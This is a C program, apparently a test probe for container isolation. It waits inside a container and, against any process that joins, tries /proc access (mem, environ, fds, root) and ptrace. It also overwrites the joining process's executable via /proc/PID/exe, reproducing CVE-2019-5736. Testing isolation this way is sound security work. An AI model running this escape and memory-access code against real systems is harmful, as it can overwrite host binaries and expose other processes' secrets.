// A process of a container that lies in wait for whoever joins it: it tries all that ptrace(2) and proc(5) offer on every
// process that is not yet the program "victim", and prints what has worked.

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static char name[4096];

// Whether `pid` is there and is not the victim's program. `name` is what it is called by.
static int joins(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t length = read(fd, name, sizeof name - 1);
  close(fd);
  if (length <= 0) return 0;
  for (ssize_t i = 0; i < length - 1; i++) if (name[i] == 0) name[i] = ' ';
  name[length] = 0;
  return strstr(name, "victim") == NULL && strstr(name, "spy") == NULL;
}

// By /proc/PID/exe of somebody who has gone: CVE-2019-5736.
static void overwrite(int exe) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
  for (int tries = 0; tries < 200; tries++) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
      if (write(fd, "overwritten", 11) == 11) printf("overwrote the executable of %s\n", name);
      close(fd);
      return;
    }
    if (errno != ETXTBSY) return;
    usleep(1000);
  }
}

static void spy_on(int pid, int only_exe) {
  static const struct { const char *file; int flags; } files[] = {
    {"mem", O_RDWR}, {"root", O_PATH | O_DIRECTORY}, {"cwd", O_PATH | O_DIRECTORY},
    {"fd/3", O_PATH}, {"fd/4", O_PATH}, {"fd/5", O_PATH}, {"environ", O_RDONLY},
  };
  char path[64];
  if (only_exe) {
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int exe = open(path, O_RDONLY | O_CLOEXEC);
    if (exe < 0) return;
    if (joins(pid)) overwrite(exe);
    close(exe);
    return;
  }
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i].file);
    int fd = open(path, files[i].flags | O_CLOEXEC);
    if (fd < 0) continue;
    if (joins(pid)) printf("opened %s of %s\n", files[i].file, name);
    close(fd);
  }
  // By a child, whose end lets go of it: only a process that stands still can be detached from.
  pid_t tracer = fork();
  if (tracer == 0) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 && joins(pid)) {
      printf("traces %s\n", name);
      fflush(stdout);
    }
    _exit(0);
  }
  if (tracer > 0) waitpid(tracer, NULL, 0);
}

int main(int argc, char **argv) {
  int only_exe = argc > 1 && strcmp(argv[1], "exe") == 0;
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ready\n");
  for (;;) {
    DIR *proc = opendir("/proc");
    if (proc == NULL) return 1;
    for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
      int pid = atoi(entry->d_name);
      if (pid > 1 && pid != getpid() && joins(pid)) spy_on(pid, only_exe);
    }
    closedir(proc);
    // The others need the CPU, too.
    usleep(50);
  }
}
